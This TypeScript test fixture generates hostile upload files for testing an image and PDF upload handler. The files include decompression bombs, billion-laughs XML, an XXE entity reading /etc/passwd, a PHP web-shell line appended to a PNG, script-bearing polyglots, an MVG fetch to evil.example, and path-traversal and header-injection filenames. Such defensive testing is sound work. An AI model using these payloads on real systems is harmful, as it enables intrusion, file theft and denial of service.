import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import {
  animated,
  jpegClaiming,
  jpegWithComment,
  manyChunks,
  manyScans,
  pngHead,
  pngOf,
  webpClaiming,
  withChunk,
} from "./broken-pictures.ts";

export type HostileFile = { what: string; name: string; bytes: Buffer };

/** Stands in every file that carries something to run: found in what is kept, it came through. */
export const MARK = "ZQ-HOSTILE-ZQ";
const script = `<script>/*${MARK}*/alert(7)</script>`;

/** Files made to hurt: to fill memory, to be taken for something else, to be kept under a bad name. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const create = { width: 64, height: 48, channels: 3 as const, background: "#204080" };
  // Not as we would pack it: what is kept must be other bytes than what came.
  const png = await sharp({ create }).png({ compressionLevel: 0 }).toBuffer();
  const jpeg = await sharp({ create }).jpeg().toBuffer();
  const webp = await sharp({ create }).webp().toBuffer();
  const avif = await sharp({ create }).avif({ effort: 0 }).toBuffer();
  const gif = await sharp({ create }).gif().toBuffer();
  const tiff = await sharp({ create }).tiff().toBuffer();
  const pdf = Buffer.from(`%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n`);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)">${script}</svg>`;
  const frames = await sharp(Buffer.alloc(64 * 48 * 40 * 3, 9), {
    raw: { width: 64, height: 48 * 40, channels: 3 },
  })
    .webp({ loop: 0 })
    .toBuffer();
  const picture = (what: string, bytes: Buffer, name = "a.png"): HostileFile => ({
    what,
    name,
    bytes,
  });
  const sheet = (what: string, bytes: Buffer, name = "a.pdf"): HostileFile => ({
    what,
    name,
    bytes,
  });
  const both = (what: string, bytes: Buffer | string, name = "a.png"): HostileFile => ({
    what,
    name,
    bytes: Buffer.from(bytes as string),
  });
  const names = [
    "../../../../etc/cron.d/x.png",
    "..\\..\\windows\\x.png",
    "%2e%2e%2f%2e%2e%2fx.png",
    "a\u0000.html.png",
    "\u202egnp.exe",
    "CON.png",
    "nul",
    ".htaccess",
    "a.php.png",
    "x".repeat(5000),
    "a\r\nSet-Cookie: x=1.png",
    'a".png; filename="b.html',
    "-rf *.png",
    "https://evil.example/a.png",
    `${script}.png`,
    "\ud83d\udca3\u0301\u0301\u0301.png",
  ];
  return [
    // Made to fill memory.
    picture("30 000 x 30 000 pixels of nothing", pngOf(30_000, 30_000, 1, 0)),
    picture("65 535 x 65 535 claimed", pngHead(65_535, 65_535)),
    picture("2 147 483 647 wide", pngHead(2_147_483_647, 1)),
    picture("no pixels at all", pngHead(0, 0)),
    picture("50 000 001 pixels", pngOf(50_000_001, 1, 1, 0)),
    picture("7000 x 7000 in true colour, just allowed", pngOf(7000, 7000, 8, 2)),
    picture("one pixel high, very wide", pngOf(200_000, 1, 8, 2)),
    picture(
      "a colour profile that unpacks to 300 MB",
      withChunk(
        png,
        "iCCP",
        Buffer.concat([Buffer.from("x\0\0"), deflateSync(Buffer.alloc(300_000_000))]),
      ),
    ),
    picture(
      "a comment that unpacks to 300 MB",
      withChunk(
        png,
        "zTXt",
        Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(Buffer.alloc(300_000_000))]),
      ),
    ),
    picture("200 000 empty chunks", manyChunks(png, 200_000)),
    picture("a JPEG that claims 65 500 x 65 500", jpegClaiming(jpeg, 65_500, 65_500)),
    picture("a WebP that claims 16 383 x 16 383", webpClaiming(webp)),
    picture("40 frames", frames),
    picture("a picture that moves", animated(png)),
    picture("4 000 scans of a JPEG", manyScans(jpeg, 4000)),
    picture(
      "50 MB of noise behind a head",
      Buffer.concat([png.subarray(0, 40), Buffer.alloc(50 * 1024 * 1024 - 40, 0xa5)]),
    ),
    both("one byte more than 50 MB", Buffer.alloc(50 * 1024 * 1024 + 1, 1)),
    // Cut short or broken.
    ...[0.1, 0.5, 0.9].map((part) =>
      picture(`a PNG cut off at ${part}`, png.subarray(0, png.length * part)),
    ),
    picture("a JPEG cut off", jpeg.subarray(0, jpeg.length / 2)),
    picture("a WebP cut off", webp.subarray(0, webp.length / 2)),
    picture("an AVIF cut off", avif.subarray(0, avif.length / 2)),
    picture(
      "a wrong checksum",
      Buffer.from(png.map((byte, at) => (at === 30 ? byte ^ 255 : byte))),
    ),
    picture("only the first bytes of a PNG", png.subarray(0, 8)),
    sheet("a PDF without its end", pdf.subarray(0, 20)),
    both("nothing", ""),
    both("one byte", "P"),
    // Two things at once.
    picture("a JPEG with a page in its comment", jpegWithComment(jpeg, script)),
    picture(
      "a PNG with a script in its text",
      withChunk(png, "tEXt", Buffer.from(`Title\0${script}`)),
    ),
    picture(
      "a PNG with a script in its XMP",
      withChunk(png, "iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${script}`)),
    ),
    picture(
      "a PNG with PHP behind it",
      Buffer.concat([png, Buffer.from(`<?php /*${MARK}*/ system($_GET[0]);`)]),
    ),
    picture("a PNG with a zip behind it", Buffer.concat([png, Buffer.from(`PK\x03\x04${MARK}`)])),
    picture("a WebP with a page behind it", Buffer.concat([webp, Buffer.from(script)])),
    picture("an AVIF with a page behind it", Buffer.concat([avif, Buffer.from(script)])),
    both("a GIF that is a script", `GIF89a/*${MARK}*/=0;alert(7)//`),
    // Something else under a picture's or a datasheet's name.
    both("an SVG with a script", svg, "a.svg"),
    both("an SVG called PNG", svg, "a.png"),
    both("a packed SVG", gzipSync(svg), "a.svgz"),
    both("a page called PNG", `<!doctype html>${script}`, "a.png"),
    both("a page in UTF-16", Buffer.from(`\ufeff<html>${script}`, "utf16le"), "a.png"),
    both(
      "XML that reads a file",
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;${MARK}</svg>`,
    ),
    both(
      "XML that unfolds without end",
      `<!DOCTYPE l [<!ENTITY a "${MARK}"><!ENTITY b "${"&a;".repeat(50)}"><!ENTITY c "${"&b;".repeat(50)}">]><svg>&c;</svg>`,
    ),
    both(
      "a drawing that fetches",
      `push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://evil.example/${MARK})'\npop graphic-context`,
      "a.mvg",
    ),
    both("a program", `MZ${MARK}`, "a.exe"),
    both("another program", `\x7fELF${MARK}`, "a"),
    both("PostScript", `%!PS-Adobe-3.0 EPSF-3.0\n% ${MARK}\nsystemdict`, "a.eps"),
    both("a zip", `PK\x03\x04${MARK}`, "a.zip"),
    sheet("a zip called PDF", Buffer.from(`PK\x03\x04${MARK}`)),
    sheet("a page called PDF", Buffer.from(`<html>${script}%PDF-1.7 %%EOF`)),
    sheet("a picture called PDF", png),
    picture("a PDF called PNG", pdf),
    picture("a GIF", gif, "a.gif"),
    picture("a TIFF", tiff, "a.tif"),
    both("a bitmap", `BM${MARK}`, "a.bmp"),
    both("an icon", `\0\0\x01\0\x01\0${MARK}`, "a.ico"),
    both("a Photoshop file", `8BPS\0\x01${MARK}`, "a.psd"),
    both("a film", `\0\0\0\x18ftypmp42${MARK}`, "a.mp4"),
    both("an iPhone's HEIC", `\0\0\0\x18ftypheic\0\0\0\0mif1heic${MARK}`, "a.heic"),
    // A picture, under a name that should lead it elsewhere.
    ...names.map((name) =>
      picture(`a picture called ${JSON.stringify(name.slice(0, 40))}`, png, name),
    ),
  ];
}
